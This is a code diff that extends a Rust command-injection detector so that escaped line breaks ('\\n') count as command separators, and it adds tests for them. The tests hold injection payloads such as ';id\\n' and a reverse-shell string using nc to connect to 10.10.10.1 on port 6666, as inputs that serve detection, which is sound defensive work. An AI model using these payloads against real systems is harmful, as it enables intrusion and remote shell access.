@@ -150,6 +150,9 @@ impl Rce {
                 .match_kind(MatchKind::LeftmostLongest)
                 .build([
                     ";", "|", "&&", "||", "\n", "`", "$(", "${IFS}", "&", "<(", ">(",
+                    // A line break written as an escape (`\nid\n`), which applications that
+                    // unescape input turn back into one.
+                    "\\n",
                 ])
                 // The pattern list is a constant; building its automaton cannot fail.
                 .unwrap_or_else(|_| unreachable!()),
@@ -179,6 +182,17 @@ impl Rce {
     /// (`/bin/sh`, `usr/bin/id`) its last segment, with whether it was named by path.
     /// Works in a stack buffer: it runs on every separator hit.
     fn command(word: &str) -> Option<(&'static str, bool)> {
+        Self::lookup(word).or_else(|| {
+            // `;id\n`: an escaped line break or tab ends the command word. Backslashes
+            // inside a word are otherwise dropped (`w\ho\am\i`), so this is a second try.
+            let at = word.match_indices('\\').map(|(at, _)| at).find(|&at| {
+                at > 0 && matches!(word.as_bytes().get(at + 1), Some(b'n' | b'r' | b't'))
+            })?;
+            Self::lookup(&word[..at])
+        })
+    }
+
+    fn lookup(word: &str) -> Option<(&'static str, bool)> {
         let mut buf = [0u8; 32];
         let mut n = 0;
         for &c in word.as_bytes() {
@@ -1204,7 +1218,8 @@ impl Detector for Rce {
         }
         // Separators and substitutions, or the flag or path a bare command line needs.
         let separators = bc::SEMI | bc::PIPE | bc::AMP | bc::NEWLINE | bc::BACKTICK | bc::DOLLAR;
-        let separated = c.any(separators) || proc_sub;
+        let escaped_break = c.any(bc::BACKSLASH) && text.contains("\\n");
+        let separated = c.any(separators) || proc_sub || escaped_break;
         if !separated && !c.any(bc::DASH | bc::SLASH | bc::BACKSLASH | bc::COLON) {
             // A cmd.exe loop or condition needs none of those.
             if c.any(bc::LPAREN) || starts_if(text) {
@@ -1287,6 +1302,21 @@ mod tests {
             r#"";\n. shell nc 10.10.10.1 6666 -e sh"#,
         ] {
             assert!(hit(s), "missed: {s}");
+        }
+    }
+
+    #[test]
+    fn escaped_line_breaks_separate_commands() {
+        // Literal backslash-n, as payload lists write them (session 15, SecLists).
+        for s in [r";id\n", r"\n/usr/bin/id\n", r"\nid|", r"a;id\n"] {
+            assert!(hit(s), "missed: {s}");
+        }
+        for s in [
+            r"C:\new\tools\nc.txt",
+            r"line one\nid card number",
+            r"D:\netcat\readme.md",
+        ] {
+            assert!(!hit(s), "false positive: {s}");
         }
     }
 
